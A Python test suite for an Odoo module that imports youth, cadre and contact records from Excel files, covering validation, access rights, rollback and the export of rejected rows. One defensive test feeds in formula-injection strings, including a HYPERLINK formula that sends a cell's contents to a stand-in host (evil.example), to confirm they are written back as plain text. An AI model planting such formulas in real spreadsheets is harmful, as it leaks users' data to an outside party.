# -*- coding: utf-8 -*-
"""Excel import of youth, cadres and contacts (issue 6), with generated files."""
import base64
import io
import os
import zipfile
from unittest.mock import patch

import openpyxl

from odoo.exceptions import AccessError, UserError, ValidationError
from odoo.modules.module import get_module_path

from odoo.addons.youth_contact.wizard import league_import_format as fmt
from odoo.addons.youth_contact.wizard import league_import_wizard

from .common import LeagueTestCase


def header(kind):
    return [c.header + ('*' if c.required else '') for c in fmt.columns(kind)]


def make_book(kind, rows, head=None, instruction=True):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(header(kind) if head is None else head)
    if instruction:
        sheet.append([fmt.INSTRUCTION_MARK + '必填'])
    for row in rows:
        sheet.append(row)
    return book


def to_bytes(book):
    output = io.BytesIO()
    book.save(output)
    return output.getvalue()


class ImportTestCase(LeagueTestCase):
    """Organizations of the imports and helpers building and previewing files."""

    @classmethod
    def setUpClass(cls):
        super(ImportTestCase, cls).setUpClass()
        cls.Youth = cls.env['league.youth'].with_context(active_test=False)
        # organizations of names of their own (the demo data has towns named
        # like the shared fixtures, which would make the names ambiguous)
        Org = cls.env['league.organization']
        cls.imp_town_a = Org.create({'name': '导入测试甲镇团委', 'level': 'town',
                                     'parent_id': cls.county_a.id})
        cls.imp_unit_a = Org.create({'name': '导入测试甲企业团支部', 'level': 'unit',
                                     'sector': 'enterprise', 'parent_id': cls.imp_town_a.id})
        cls.imp_town_b = Org.create({'name': '导入测试乙镇团委', 'level': 'town',
                                     'parent_id': cls.county_b.id})
        cls.imp_unit_b = Org.create({'name': '导入测试乙学校团委', 'level': 'unit',
                                     'sector': 'school', 'parent_id': cls.imp_town_b.id})
        for cadre in (cls.cadre_a, cls.cadre_a2, cls.cadre_b):
            cadre.mobile = cls.next_mobile()

    # ------------------------------------------------------------------
    # helpers
    # ------------------------------------------------------------------
    def youth_row(self, name='林小明', mobile=None, org='导入测试甲镇团委', sector='农村', gender='男',
                  birth='2000-01-01', status='', unit='', hardship=''):
        return [name, gender, birth, mobile or self.next_mobile(), status, sector, unit, org,
                hardship]

    def cadre_row(self, name='黄志强', mobile=None, org='导入测试甲镇团委', category='专职团干部',
                  position='', leader='否', established='是', wechat='wx_hzq', qq='', weibo=''):
        return [name, mobile or self.next_mobile(), org, category, position, leader,
                established, wechat, qq, weibo]

    def wizard(self, kind, data, user=None, filename='import.xlsx'):
        return self.env['league.import.wizard'].sudo(user or self.user_admin_a).create({
            'import_type': kind,
            'file': base64.b64encode(data),
            'filename': filename,
        })

    def preview(self, kind, rows, user=None, **kw):
        wizard = self.wizard(kind, to_bytes(make_book(kind, rows, **kw)), user)
        wizard.action_preview()
        return wizard

    def results(self, wizard):
        return {line.row: (line.status, line.message or '') for line in wizard.line_ids}

    def assertRowError(self, results, row, fragment):
        status, message = results[row]
        self.assertEqual(status, 'error', 'row %s: %s' % (row, message))
        self.assertIn(fragment, message, 'row %s' % row)

    def assertFileRefused(self, data, fragment, kind='youth'):
        count = self.Youth.search_count([])
        wizard = self.wizard(kind, data)
        with self.assertRaises(UserError) as ctx:
            wizard.action_preview()
        self.assertIn(fragment, ctx.exception.name)
        self.assertEqual(self.Youth.search_count([]), count)
        self.assertEqual(wizard.state, 'upload')
        return ctx.exception.name


class TestImport(ImportTestCase):

    # ------------------------------------------------------------------
    # templates
    # ------------------------------------------------------------------
    def test_templates(self):
        """Templates: Chinese headers, instruction row, lists, examples; repo copies in sync."""
        root = os.path.dirname(get_module_path('youth_contact'))
        lists = {'youth': {'性别': '男,女', '领域': '企业,农村,机关,学校,街道社区,青年社会组织,新媒体',
                           '困难类别': '城市非户籍常住青少年,城乡贫困家庭青少年,留守儿童,残疾青少年',
                           '政治面貌': '共青团员,中共党员,中共预备党员,群众'},
                 'cadre': {'干部类别': '专职团干部,团的领导机关挂职、兼职干部,其他兼职团干部',
                           '领导班子成员': '是,否', '在编干部': '是,否'},
                 'contact': {'联系渠道': '微信,QQ,微博,电话,线下'}}
        vocabularies = self.env['league.import.wizard']._vocabularies()
        for kind in ('youth', 'cadre', 'contact'):
            data = fmt.build_template(kind, vocabularies)
            path = os.path.join(root, 'data', 'templates', fmt.FILENAMES[kind])
            with open(path, 'rb') as f:
                self.assertEqual(f.read(), data, '%s is out of date: run '
                                 'tools/gen_templates.py --db DB' % path)
            book = openpyxl.load_workbook(io.BytesIO(data))
            sheet = book.worksheets[0]
            self.assertEqual([c.value for c in sheet[1]], header(kind))
            self.assertTrue(sheet['A2'].value.startswith(fmt.INSTRUCTION_MARK))
            heads = {i + 1: c.header for i, c in enumerate(fmt.columns(kind))}
            found = {}
            for validation in sheet.data_validations.dataValidation:
                column = min(r.min_col for r in validation.sqref.ranges)
                found[heads[column]] = (validation.formula1 or '').strip('"')
            self.assertEqual({k: found.get(k) for k in lists[kind]}, lists[kind])
            examples = book['填写示例']
            self.assertEqual([c.value for c in examples[3]][:2], fmt.EXAMPLES[kind][0][:2])
            # printed on A4 scaled to the page width, the headers and the
            # instructions on every page, page numbers
            self.assertPrintSetup(sheet, 'landscape' if kind != 'contact' else 'portrait', '$1:$2')
            self.assertPrintSetup(examples, sheet.page_setup.orientation, '$1:$2')
            self.assertPrintSetup(book['填写说明'], 'portrait', None)
            # the empty template itself is refused with a clear message
            self.assertFileRefused(data, 'no data row', kind)
        wizard = self.env['league.import.wizard'].sudo(self.user_admin_a).create(
            {'import_type': 'cadre'})
        wizard.action_get_template()
        self.assertEqual(base64.b64decode(wizard.template_file),
                         fmt.build_template('cadre', vocabularies))
        self.assertTrue(wizard.template_filename.endswith('.xlsx'))

    def assertPrintSetup(self, sheet, orientation, title_rows):
        setup = sheet.page_setup
        self.assertEqual((setup.paperSize, setup.orientation), (9, orientation), sheet.title)
        self.assertTrue(sheet.sheet_properties.pageSetUpPr.fitToPage, sheet.title)
        # fitToWidth 1 is the default, not written
        self.assertEqual((setup.fitToWidth or 1, setup.fitToHeight), (1, 0), sheet.title)
        self.assertEqual(sheet.print_title_rows, title_rows, sheet.title)
        self.assertEqual(sheet.oddFooter.center.text, '第 &P 页，共 &N 页', sheet.title)

    def test_vocabularies_are_the_models_selections(self):
        """The list values are read from the models' selections (Chinese labels,
        whatever the user's language); the accepted synonyms name existing keys."""
        vocabularies = self.env['league.import.wizard'].sudo(self.user_admin_a).with_context(
            lang='en_US')._vocabularies()
        for kind in ('youth', 'cadre', 'contact'):
            for column in fmt.columns(kind):
                if column.kind != 'selection':
                    continue
                model, field = fmt.SELECTION_FIELDS[column.key]
                keys = [key for key, _label in self.env[model]._fields[field].selection]
                self.assertEqual(list(vocabularies[column.key]), keys, column.key)
                for label in vocabularies[column.key].values():
                    self.assertRegex(label, '[\u4e00-\u9fff]|^QQ$', column.key)
                aliases = fmt.VALUE_ALIASES.get(column.key, {})
                self.assertLessEqual(set(aliases.values()) - {False}, set(keys), column.key)
        self.assertEqual(vocabularies['sector']['community'], '街道社区')
        for kind, model in (('youth', 'league.youth'), ('cadre', 'league.cadre')):
            for column in fmt.columns(kind):
                if column.key != 'organization':
                    self.assertIn(column.key, self.env[model]._fields, column.key)

    # ------------------------------------------------------------------
    # youth: create, update, errors
    # ------------------------------------------------------------------
    def test_youth_create_and_update(self):
        """Rows are matched on mobile: known mobiles update, others create."""
        self.youth_a1.birthdate = '1995-05-05'
        rows = [
            self.youth_row('林小明', '13912345601', sector='企业'),
            self.youth_row('黄小红', '13912345602', gender='女', hardship='留守儿童'),
            # youth_a1 again: new name, blank birth date keeps the stored one
            self.youth_row('刘洋（更新）', self.youth_a1.mobile, org='导入测试甲企业团支部',
                           birth='', unit='梅州某公司', sector='企业'),
        ]
        wizard = self.preview('youth', rows)
        self.assertEqual(self.results(wizard), {3: ('new', ''), 4: ('new', ''),
                                                5: ('update', '')})
        self.assertEqual((wizard.count_total, wizard.count_new, wizard.count_update,
                          wizard.count_error), (3, 2, 1, 0))
        self.assertFalse(wizard.error_file)
        self.assertFalse(self.Youth.search([('mobile', '=', '13912345601')]),
                         'the preview writes nothing')
        wizard.action_confirm()
        self.assertEqual(wizard.state, 'done')
        self.assertEqual((wizard.created_count, wizard.updated_count), (2, 1))
        new = self.Youth.search([('mobile', '=', '13912345602')])
        self.assertEqual((new.name, new.gender, new.hardship, new.sector, new.county_id),
                         ('黄小红', 'female', 'left_behind', 'rural', self.county_a))
        self.assertEqual(new.create_uid, self.user_admin_a, 'created as the importing user')
        # stored computed fields are computed in the database, as after an ORM create
        self.env.cr.execute('SELECT county_id, cadre_count FROM league_youth WHERE id = %s',
                            [new.id])
        self.assertEqual(self.env.cr.fetchone(), (self.county_a.id, 0))
        self.assertEqual(self.Youth.search_count([('mobile', '=', self.youth_a1.mobile)]), 1)
        self.youth_a1.invalidate_cache()
        self.assertEqual((self.youth_a1.name, self.youth_a1.unit, self.youth_a1.birthdate),
                         ('刘洋（更新）', '梅州某公司', '1995-05-05'))
        # the same file again: every row is now an update, nothing is duplicated
        again = self.preview('youth', rows)
        self.assertEqual({s for s, _m in self.results(again).values()}, {'update'})

    def test_youth_row_errors(self):
        """Every kind of bad row gets its own reason; untidy good rows are cleaned."""
        taken = self.youth_row('重复', '13912345610')
        rows = [
            self.youth_row('', '13912345611'),                              # 3 missing
            self.youth_row('甲', '1391234561'),                             # 4 bad mobile
            self.youth_row('乙', '13912345613', org='不存在的团委'),         # 5 unknown org
            taken,                                                          # 6 good
            self.youth_row('重复二', '139 1234 5610'),                      # 7 duplicate
            self.youth_row('丙', '13912345615', sector='工厂'),             # 8 bad sector
            self.youth_row('丁', '13912345616', org='导入测试乙镇团委'),       # 9 other county
            self.youth_row('戊', '13912345617', birth='2001-13-45'),        # 10 bad date
            self.youth_row('己', '13912345618', birth='2099-01-01'),        # 11 future
            self.youth_row('庚', '=TEXT(13912345619,"0")'),                 # 12 formula
            self.youth_row('辛', self.youth_b1.mobile),                     # 13 youth of B
            self.youth_row('壬', '13912345621', gender='未知'),              # 14 bad gender
            self.youth_row('癸', '13912345622', hardship='贫困'),            # 15 bad hardship
            self.youth_row('子', '13912345623') + ['', '多余'],              # 16 no header
            # 17: untidy but good: spaces, full-width digits, date as number, +86
            [' 　王晓东 ', ' 男 ', 36892, '＋８６ １３９-１２３４-５６２４', '团员', ' 企业 ', '',
             ' 导入测试甲镇团委 ', '无'],
            self.youth_row('丑', 13912345625.0, birth='2001年5月4日'),       # 18 good
            ['', '', '', '', '', '', '', '', ''],                           # blank: skipped
            self.youth_row('寅', '13912345627', birth=None, gender=None),    # 20 missing gender
        ]
        wizard = self.preview('youth', rows)
        res = self.results(wizard)
        self.assertRowError(res, 3, 'Missing required cell "姓名"')
        self.assertRowError(res, 4, '"1391234561" in "手机号码" is not an 11-digit')
        self.assertRowError(res, 5, 'Unknown organization "不存在的团委"')
        self.assertEqual(res[6][0], 'new')
        self.assertRowError(res, 7, 'Duplicate in the file: the mobile 13912345610 is '
                                    'already on row 6')
        self.assertRowError(res, 8, 'Sector: "工厂" is not one of the choices')
        self.assertRowError(res, 9, 'outside your county (梅江区团委)')
        self.assertRowError(res, 10, 'Birth Date: "2001-13-45" is not a date (YYYY-MM-DD).')
        self.assertRowError(res, 11, 'Birth Date: 2099-01-01 is in the future.')
        self.assertRowError(res, 12, 'contains a formula')
        self.assertRowError(res, 13, 'belongs to a record of another county (兴宁市团委)')
        self.assertRowError(res, 14, 'Gender: "未知" is not one of the choices')
        self.assertRowError(res, 15, 'Hardship Category: "贫困" is not one of the choices')
        self.assertRowError(res, 16, 'column K has a value but the column has no header')
        self.assertEqual(res[17], ('new', ''))
        self.assertEqual(res[18], ('new', ''))
        self.assertNotIn(19, res)
        self.assertRowError(res, 20, 'Missing required cell "性别"')
        self.assertEqual((wizard.count_new, wizard.count_error), (3, 14))
        self.assertTrue(wizard.error_file)
        wizard.action_confirm()
        self.assertEqual(wizard.created_count, 3)
        tidy = self.Youth.search([('mobile', '=', '13912345624')])
        self.assertEqual((tidy.name, tidy.gender, tidy.birthdate, tidy.political_status,
                          tidy.sector, tidy.organization_id, tidy.hardship),
                         ('王晓东', 'male', '2001-01-01', 'league_member', 'enterprise',
                          self.imp_town_a, False))
        self.assertEqual(self.Youth.search([('mobile', '=', '13912345625')]).birthdate,
                         '2001-05-04')
        self.assertFalse(self.Youth.search([('mobile', 'in', ['13912345611', '13912345613',
                                                              '13912345616'])]))
        self.assertEqual(self.youth_b1.name, '杨帆', 'the youth of county B is untouched')

    def test_organization_names(self):
        """Equal organization names are told apart with "county/organization"."""
        Org = self.env['league.organization']
        Org.create({'name': '城北镇团委', 'level': 'town', 'parent_id': self.county_a.id})
        twin_b = Org.create({'name': '城北镇团委', 'level': 'town', 'parent_id': self.county_b.id})
        rows = [self.youth_row(org='城北镇团委'),
                self.youth_row(org='兴宁市/城北镇团委'),
                self.youth_row(org='兴宁市团委 / 城北镇团委'),
                self.youth_row(org=' 梅江区团委／导入测试甲镇团委')]
        res = self.results(self.preview('youth', rows, user=self.user_city))
        self.assertRowError(res, 3, 'Several organizations are named "城北镇团委"')
        self.assertEqual([res[4][0], res[5][0], res[6][0]], ['new', 'new', 'new'])
        # a county administrator means the organization of their own county
        res = self.results(self.preview('youth', rows[:1]))
        self.assertEqual(res[3], ('new', ''))
        wizard = self.preview('youth', rows[1:2], user=self.user_city)
        wizard.action_confirm()
        self.assertEqual(self.Youth.search([('mobile', '=', rows[1][3])]).organization_id,
                         twin_b)

    # ------------------------------------------------------------------
    # all or nothing
    # ------------------------------------------------------------------
    def test_confirm_all_or_nothing(self):
        """A row the database refuses in the middle leaves the database as before."""
        Wizard = type(self.env['league.import.wizard'])
        rows = [self.youth_row('甲', '13912345631'), self.youth_row('乙', self.youth_a2.mobile),
                self.youth_row('丙', '13912345633')]
        before = self.Youth.search_count([])
        # blind the check of existing mobiles: row 4 then looks new, and its INSERT
        # breaks the unique mobile constraint after row 3 has been inserted
        with patch.object(Wizard, '_fetch_by_mobile', lambda *args: {}), \
                patch.object(league_import_wizard, 'BULK_SIZE', 1):
            wizard = self.preview('youth', rows)
            self.assertEqual(wizard.count_new, 3)
            with self.assertRaises(UserError) as ctx:
                wizard.action_confirm()
        # a unique key taken since the preview: the data changed, not the row
        self.assertIn('The data changed since the preview', ctx.exception.name)
        self.assertEqual(self.Youth.search_count([]), before)
        self.assertFalse(self.Youth.search([('mobile', '=', '13912345631')]),
                         'the first row is rolled back too')
        self.assertEqual(self.youth_a2.name, '陈静')
        self.assertEqual(wizard.state, 'preview')
        # with the check restored, row 4 turns out to be an update: shown first
        wizard.action_confirm()
        self.assertEqual((wizard.state, self.results(wizard)[4][0]), ('preview', 'update'))
        wizard.action_confirm()
        self.assertEqual((wizard.state, wizard.created_count, wizard.updated_count),
                         ('done', 2, 1))

    def test_confirm_all_or_nothing_cadres(self):
        """Cadres (one by one, with their users): a refusal rolls back users too."""
        Cadre = type(self.env['league.cadre'])
        original = Cadre.create
        calls = []

        def failing_create(model, vals):
            calls.append(vals['mobile'])
            if len(calls) == 2:
                raise ValidationError('refused by the model')
            return original(model, vals)

        rows = [self.cadre_row('甲', '13912345634'), self.cadre_row('乙', '13912345635')]
        wizard = self.preview('cadre', rows)
        with patch.object(Cadre, 'create', failing_create):
            with self.assertRaises(UserError) as ctx:
                wizard.action_confirm()
        self.assertIn('row 4 was refused (refused by the model)', ctx.exception.name)
        self.assertFalse(self.env['res.users'].with_context(active_test=False).search(
            [('name', '=', '甲')]))
        self.assertFalse(self.env['league.cadre'].search([('mobile', '=', '13912345634')]))

    def test_confirm_checks_again(self):
        """What changed since the preview is checked again before anything is written."""
        wizard = self.preview('youth', [self.youth_row('甲', '13912345641')])
        self.assertEqual(self.results(wizard)[3][0], 'new')
        other = self.make_youth('已录入', self.town_a, mobile='13912345641')
        wizard.action_confirm()
        self.assertEqual(wizard.state, 'preview')
        self.assertTrue(wizard.note)
        self.assertEqual(self.results(wizard)[3][0], 'update')
        self.assertEqual(other.name, '已录入')
        wizard.action_confirm()
        other.invalidate_cache()
        self.assertEqual((wizard.state, other.name), ('done', '甲'))

    def test_no_row_to_import(self):
        wizard = self.preview('youth', [self.youth_row('', '13912345651')])
        with self.assertRaises(UserError):
            wizard.action_confirm()

    # ------------------------------------------------------------------
    # rights
    # ------------------------------------------------------------------
    def test_rights_per_role(self):
        """Cadres cannot import; county administrators only into their county; city: all."""
        data = to_bytes(make_book('youth', [self.youth_row()]))
        with self.assertRaises(AccessError):
            self.wizard('youth', data, user=self.user_cadre_a)
        wizard = self.wizard('youth', data)
        with self.assertRaises(AccessError):
            wizard.sudo(self.user_cadre_a).action_preview()
        no_county = self.make_user('admin_none', 'group_county_admin')
        with self.assertRaises(AccessError):
            self.wizard('youth', data, user=no_county)
        rows = [self.youth_row('甲', '13912345661', org='导入测试甲镇团委'),
                self.youth_row('乙', '13912345662', org='导入测试乙镇团委'),
                self.youth_row('丙', self.youth_b1.mobile, org='导入测试乙学校团委')]
        res_a = self.results(self.preview('youth', rows))
        self.assertEqual(res_a[3][0], 'new')
        self.assertRowError(res_a, 4, 'outside your county')
        self.assertRowError(res_a, 5, 'another county')
        city = self.preview('youth', rows, user=self.user_city)
        self.assertEqual(self.results(city), {3: ('new', ''), 4: ('new', ''),
                                              5: ('update', '')})
        city.action_confirm()
        self.assertEqual(self.Youth.search([('mobile', '=', '13912345662')]).county_id,
                         self.county_b)
        # a wizard of another user is invisible
        self.assertFalse(self.env['league.import.wizard'].sudo(self.user_admin_a).search(
            [('id', '=', city.id)]))

    # ------------------------------------------------------------------
    # cadres
    # ------------------------------------------------------------------
    def test_cadre_import_creates_users(self):
        """New cadres get a user: generated login (not the mobile), cadre group,
        no password."""
        Users = self.env['res.users'].with_context(active_test=False)
        plain = Users.create({'name': '旧账号', 'login': '13912345673',
                              'groups_id': [(6, 0, [self.env.ref('base.group_user').id])]})
        admin_b = self.make_user('admin_b', 'group_county_admin',
                                 league_admin_county_id=self.county_b.id)
        admin_b.login = '13912345674'
        rows = [
            self.cadre_row('黄志强', '13912345671', leader='是', position='书记'),
            self.cadre_row('刘美玲', '13912345672', org='导入测试甲企业团支部',
                           category='其他兼职团干部', wechat='', qq=123456789.0),
            self.cadre_row('旧账号', '13912345673'),                      # links the user
            self.cadre_row('管理员', '13912345674'),                      # 6 admin login
            self.cadre_row('无账号', '13912345675', wechat=''),           # 7 no social
            self.cadre_row('错类别', '13912345676', category='挂职干部'),  # 8 category
            self.cadre_row('李娜', self.cadre_a2.mobile, org='导入测试甲镇团委', wechat=''),  # update
            self.cadre_row('错是否', '13912345678', leader='可能'),        # 10 yes/no
            self.cadre_row('外县', '13912345679', org='导入测试乙镇团委'),    # 11 county B
            self.cadre_row('外县干部', self.cadre_b.mobile, org='导入测试甲镇团委'),  # 12 cadre of B
        ]
        wizard = self.preview('cadre', rows)
        res = self.results(wizard)
        self.assertEqual([res[r][0] for r in (3, 4, 5, 9)], ['new', 'new', 'new', 'update'])
        self.assertRowError(res, 6, 'belongs to the administrator "User admin_b"')
        self.assertRowError(res, 7, 'At least one of WeChat, QQ or Weibo is required')
        self.assertRowError(res, 8, 'Category: "挂职干部" is not one of the choices')
        self.assertRowError(res, 10, '"可能" is not allowed in "领导班子成员"')
        self.assertRowError(res, 11, 'outside your county')
        self.assertRowError(res, 12, 'another county')
        wizard.action_confirm()
        Cadre = self.env['league.cadre']
        cadre = Cadre.search([('mobile', '=', '13912345671')])
        self.assertEqual((cadre.category, cadre.quota, cadre.is_leader, cadre.established,
                          cadre.position, cadre.county_id),
                         ('full_time', 100, True, True, '书记', self.county_a))
        user = cadre.user_id
        self.assertEqual(user.name, '黄志强')
        self.assertRegex(user.login, r'^tg\d{5,}$')
        other = Cadre.search([('mobile', '=', '13912345672')]).user_id
        self.assertRegex(other.login, r'^tg\d{5,}$')
        self.assertNotEqual(other.login, user.login)
        self.assertTrue(user.has_group('youth_contact.group_cadre'))
        self.assertFalse(user.has_group('youth_contact.group_county_admin'))
        self.env.cr.execute('SELECT password FROM res_users WHERE id = %s', [user.id])
        self.assertFalse(self.env.cr.fetchone()[0], 'no password until invited')
        part_time = Cadre.search([('mobile', '=', '13912345672')])
        self.assertEqual((part_time.quota, part_time.qq), (10, '123456789'))
        self.assertEqual(Cadre.search([('mobile', '=', '13912345673')]).user_id, plain)
        self.assertTrue(plain.has_group('youth_contact.group_cadre'))
        self.assertFalse(Cadre.search([('user_id', '=', admin_b.id)]))
        self.cadre_a2.invalidate_cache()
        self.assertEqual((self.cadre_a2.organization_id, self.cadre_a2.user_id),
                         (self.imp_town_a, self.user_cadre_a2), 'update keeps the user')
        self.assertTrue(self.cadre_a2.wechat, 'blank cells keep the stored accounts')
        self.assertFalse(Users.search([('login', 'in', ['13912345675', '13912345679'])]))
        # a login already linked to another cadre is refused
        cadre.user_id.login = '13912345680'
        res = self.results(self.preview('cadre', [self.cadre_row('新人', '13912345680')]))
        self.assertRowError(res, 3, 'linked to another cadre')

    # ------------------------------------------------------------------
    # contacts
    # ------------------------------------------------------------------
    def test_contact_import(self):
        existing = self.make_contact(self.cadre_a, self.youth_a2, channel='qq',
                                     date_start='2016-08-01')
        self.assertEqual(self.cadre_a.contact_count, 1)
        cadre, youth = self.cadre_a.mobile, self.youth_a1.mobile
        rows = [
            [cadre, youth, '2016-09-01', '微信'],                    # 3 new
            [cadre, self.youth_a2.mobile, '', '线下'],              # 4 update
            [cadre, '13912345699', '', '微信'],                     # 5 unknown youth
            ['13912345698', youth, '', '微信'],                     # 6 unknown cadre
            [self.cadre_b.mobile, youth, '', '微信'],               # 7 cadre of B
            [cadre, youth, '', '电话'],                             # 8 duplicate pair
            [cadre, self.youth_b1.mobile, '', '短信'],              # 9 youth of B + channel
        ]
        wizard = self.preview('contact', rows)
        res = self.results(wizard)
        self.assertEqual((res[3][0], res[4][0]), ('new', 'update'))
        self.assertRowError(res, 5, 'No youth has the mobile 13912345699')
        self.assertRowError(res, 6, 'No cadre has the mobile 13912345698')
        self.assertRowError(res, 7, 'another county')
        self.assertRowError(res, 8, 'this cadre and youth are already on row 3')
        self.assertRowError(res, 9, 'another county')
        self.assertRowError(res, 9, 'Channel: "短信" is not one of the choices')
        wizard.action_confirm()
        contact = self.env['league.contact'].search([('cadre_id', '=', self.cadre_a.id),
                                                     ('youth_id', '=', self.youth_a1.id)])
        self.assertEqual((contact.channel, contact.date_start), ('wechat', '2016-09-01'))
        self.assertEqual((contact.county_id, contact.sector), (self.county_a, 'enterprise'))
        self.cadre_a.invalidate_cache()
        self.assertEqual(self.cadre_a.contact_count, 2, 'stored counters recomputed')
        self.assertEqual(self.youth_a1.cadre_count, 1)
        existing.invalidate_cache()
        self.assertEqual((existing.channel, existing.date_start), ('offline', '2016-08-01'))

    # ------------------------------------------------------------------
    # bad files
    # ------------------------------------------------------------------
    def test_bad_files(self):
        """Bad files are refused as a whole with a clear message, nothing written."""
        self.assertFileRefused(b'name,mobile\n\xe5\xbc\xa0,139\n', 'is not an Excel workbook')
        self.assertFileRefused(b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1' + b'\0' * 600,
                               'Excel 97-2003 (.xls)')
        self.assertFileRefused(b'PK\x03\x04broken', 'is not an Excel workbook')
        zipped = io.BytesIO()
        with zipfile.ZipFile(zipped, 'w') as archive:
            archive.writestr('word/document.xml', '<w:document/>')
        self.assertFileRefused(zipped.getvalue(), 'is not an Excel workbook')
        self.assertFileRefused(to_bytes(openpyxl.Workbook()), 'is empty')
        self.assertFileRefused(to_bytes(make_book('youth', [])), 'has headers but no data row')
        message = self.assertFileRefused(
            to_bytes(make_book('cadre', [self.cadre_row()])), 'do not match')
        self.assertIn('Missing columns: 性别、领域', message)
        self.assertIn('Unknown columns: 干部类别', message)
        self.assertFileRefused(
            to_bytes(make_book('youth', [self.youth_row()], head=['姓名', '手机号码', '手机号码'])),
            'appears twice')
        merged = make_book('youth', [self.youth_row(), self.youth_row()])
        merged.active.merge_cells('H3:H4')
        self.assertFileRefused(to_bytes(merged), 'merged cells (H3:H4)')
        with patch.object(fmt, 'MAX_ROWS', 2):
            self.assertFileRefused(to_bytes(make_book('youth', [self.youth_row()] * 3)),
                                   'more than 2 data rows')
        wizard = self.env['league.import.wizard'].sudo(self.user_admin_a).create({})
        with self.assertRaises(UserError):
            wizard.action_preview()

    def test_title_row_and_trailing_blank_rows(self):
        """A title row above the headers and 20,000 blank rows below the data are fine."""
        book = make_book('youth', [self.youth_row(), self.youth_row()])
        sheet = book.active
        sheet.insert_rows(1)
        sheet['A1'] = '梅江区团员青年信息表'
        for row in range(6, 20006):
            sheet.cell(row=row, column=1, value=' ')
            sheet.cell(row=row, column=9).number_format = '@'
        wizard = self.wizard('youth', to_bytes(book))
        wizard.action_preview()
        self.assertEqual(self.results(wizard), {4: ('new', ''), 5: ('new', '')})

    def test_no_per_row_queries(self):
        """The number of queries of a preview does not grow with the number of rows."""
        def queries(count):
            rows = [self.youth_row('青年%d' % i, org='导入测试甲企业团支部', sector='企业')
                    for i in range(count)]
            rows.append(self.youth_row('更新', self.youth_a1.mobile))
            wizard = self.wizard('youth', to_bytes(make_book('youth', rows)))
            before = self.env.cr.sql_log_count
            wizard.action_preview()
            self.assertEqual(wizard.count_new, count)
            return self.env.cr.sql_log_count - before
        small, large = queries(10), queries(300)
        self.assertLessEqual(large, small + 2, (small, large))

    # ------------------------------------------------------------------
    # round trip
    # ------------------------------------------------------------------
    def test_rejected_rows_texts_are_not_formulas(self):
        """Texts of rejected rows starting with = + - @ (a formula in the uploaded file,
        or "{=...}") come back as texts in the rejected-rows file, never as formulas."""
        texts = ['=HYPERLINK("http://evil.example/?q="&A1,"点击查看")', '+1+2', '-3+4',
                 '@SUM(1+1)', '{=1+1}', 'http://evil.example/']
        rows = [self.youth_row(texts[0], '123', unit=texts[1]),
                self.youth_row(texts[2], '456', unit=texts[3]),
                self.youth_row(texts[4], '789', unit=texts[5])]
        upload = make_book('youth', rows)
        self.assertEqual(upload.active['A3'].data_type, 'f')     # a formula in the upload
        wizard = self.wizard('youth', to_bytes(upload))
        wizard.action_preview()
        self.assertEqual(wizard.count_error, 3)
        book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(wizard.error_file)))
        sheet = book.worksheets[0]
        cells = {}
        for row in sheet.iter_rows():
            for cell in row:
                self.assertNotEqual(cell.data_type, 'f', '%s: %r' % (cell.coordinate, cell.value))
                self.assertIsNone(cell.hyperlink, cell.coordinate)
                cells.setdefault(cell.value, cell)
        for text in texts:
            self.assertIn(text, cells)
            self.assertEqual(cells[text].data_type, 's', text)
        self.assertEqual(sheet['A3'].value, texts[0])
        # every workbook of the addons is created with these options
        output = io.BytesIO()
        raw = fmt.new_workbook(output)
        raw.add_worksheet().write(0, 0, texts[0])
        raw.worksheets()[0].write(1, 0, texts[5])
        raw.close()
        sheet = openpyxl.load_workbook(output).worksheets[0]
        self.assertEqual((sheet['A1'].value, sheet['A1'].data_type), (texts[0], 's'))
        self.assertEqual((sheet['A2'].value, sheet['A2'].data_type), (texts[5], 's'))
        self.assertIsNone(sheet['A2'].hyperlink)

    def test_round_trip(self):
        """Rejected rows download with a reason column, get fixed and import again."""
        rows = [self.youth_row('甲', '13912345681'),
                self.youth_row('乙', '1391234568', sector='企业'),
                self.youth_row('丙', '13912345683', org='不存在的团委')]
        wizard = self.preview('youth', rows)
        wizard.action_confirm()
        self.assertEqual(wizard.created_count, 1)
        self.assertTrue(wizard.error_filename.endswith('.xlsx'))
        book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(wizard.error_file)))
        sheet = book.worksheets[0]
        heads = [c.value for c in sheet[1]]
        self.assertEqual(heads, header('youth') + [fmt.REASON_HEADER])
        self.assertEqual(sheet.max_row, 4)
        self.assertEqual([sheet.cell(row=r, column=1).value for r in (3, 4)], ['乙', '丙'])
        self.assertIn('Row 4:', sheet.cell(row=3, column=len(heads)).value)
        self.assertIn('Unknown organization', sheet.cell(row=4, column=len(heads)).value)
        # printable as the templates, the reasons wrapped in their column
        self.assertPrintSetup(sheet, 'landscape', '$1:$2')
        self.assertTrue(sheet.cell(row=3, column=len(heads)).alignment.wrap_text)
        sheet['D3'] = '13912345682'
        sheet['H4'] = '导入测试甲镇团委'
        again = self.wizard('youth', to_bytes(book))
        again.action_preview()
        self.assertEqual(self.results(again), {3: ('new', ''), 4: ('new', '')})
        again.action_confirm()
        imported = self.Youth.search([('mobile', 'in', ['13912345681', '13912345682',
                                                        '13912345683'])])
        self.assertEqual(sorted(imported.mapped('name')), sorted(['甲', '乙', '丙']))
        self.assertEqual(imported.filtered(lambda y: y.name == '乙').sector, 'enterprise')

    def test_back_to_upload(self):
        wizard = self.preview('youth', [self.youth_row()])
        wizard.action_back()
        self.assertEqual((wizard.state, wizard.line_ids), ('upload', self.env['league.import.line']))
        self.assertFalse(wizard.file)
        with self.assertRaises(UserError):
            wizard.write({'state': 'done'})

    def test_sample_files(self):
        """The sample files of data/samples are readable and show their bad rows."""
        root = os.path.join(os.path.dirname(get_module_path('youth_contact')), 'data', 'samples')
        for name, kind, rows in (('youth_meijiang.xlsx', 'youth', 16),
                                 ('youth_meijiang_bad_rows.xlsx', 'youth', 13),
                                 ('cadre_meijiang.xlsx', 'cadre', 6),
                                 ('cadre_meijiang_bad_rows.xlsx', 'cadre', 6),
                                 ('contact_meijiang.xlsx', 'contact', 19)):
            with open(os.path.join(root, name), 'rb') as f:
                _present, read = fmt.read_rows(f.read(), kind)
            self.assertEqual(len(read), rows, name)
